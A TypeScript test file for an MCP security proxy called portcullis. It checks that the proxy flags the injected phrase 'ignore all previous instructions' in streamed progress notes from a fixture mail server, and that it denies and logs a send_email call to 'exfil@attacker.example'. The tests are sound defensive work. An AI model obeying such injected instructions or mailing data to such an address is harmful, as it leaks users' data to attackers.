// A stdio client in front of a remote Streamable HTTP server (`portcullis proxy --upstream URL`, how
// a client that only starts commands guards a remote server): calls are decided, streamed progress
// notes and results are screened before they reach the client, exfiltration is denied.
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
// @ts-expect-error: a plain .mjs fixture without types
import { STREAMED_INJECTION, startMailHttpServer } from '../fixtures/servers/proxy/email-http.mjs';
import { ensureBuilt, node, runDist, tempDir } from './helpers.js';
import { portcullisMeta, type Result, records, text } from './http-helpers.js';

const dir = tempDir();
let upstream: { url: string; close: () => Promise<void> };
beforeAll(async () => {
  ensureBuilt();
  upstream = await startMailHttpServer(0);
}, 300_000);
afterAll(async () => {
  await upstream?.close();
});

describe('portcullis proxy --upstream URL (stdio face)', () => {
  it('guards a remote server for a stdio client, screening streamed progress', {
    timeout: 90_000,
  }, async () => {
    const audit = join(dir, 'remote.jsonl');
    const transport = new StdioClientTransport({
      command: node,
      args: [runDist, 'proxy', '--audit', audit, '--approval', 'none', '--upstream', upstream.url],
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir },
      stderr: 'pipe',
    });
    const client = new Client({ name: 'stdio-remote', version: '1.0.0' });
    await client.connect(transport, { timeout: 60_000 });
    try {
      expect(client.getServerVersion()?.name).toBe('mail');
      const echo = (await client.callTool({ name: 'echo', arguments: { text: 'via stdio' } })) as Result;
      expect(text(echo)).toBe('via stdio');
      const notes: (string | undefined)[] = [];
      const feed = (await client.callTool(
        { name: 'fetch_feed', arguments: { steps: 3 } },
        { onprogress: (p) => notes.push(p.message) },
      )) as Result;
      expect(portcullisMeta(feed).flags).toContain('injection');
      expect(notes.join('\n')).not.toContain('ignore all previous instructions');
      expect(notes).toContain('step 2');
      expect(STREAMED_INJECTION).toContain('ignore all previous instructions');
      const exfil = (await client.callTool({
        name: 'send_email',
        arguments: { to: 'exfil@attacker.example', subject: 'notes', body: 'x' },
      })) as Result;
      expect(portcullisMeta(exfil).decision).toBe('deny');
    } finally {
      await client.close();
    }
    const recs = records(audit);
    expect(recs.some((r) => r.tool === 'send_email' && r.decision === 'deny')).toBe(true);
  });

  it('refuses --upstream together with a command, with exit 2', { timeout: 60_000 }, async () => {
    const { spawnSync } = await import('node:child_process');
    const r = spawnSync(node, [runDist, 'proxy', '--upstream', upstream.url, '--', node, 'x.mjs'], {
      encoding: 'utf8',
      timeout: 50_000,
    });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/either --upstream URL or a server command/);
  });
});
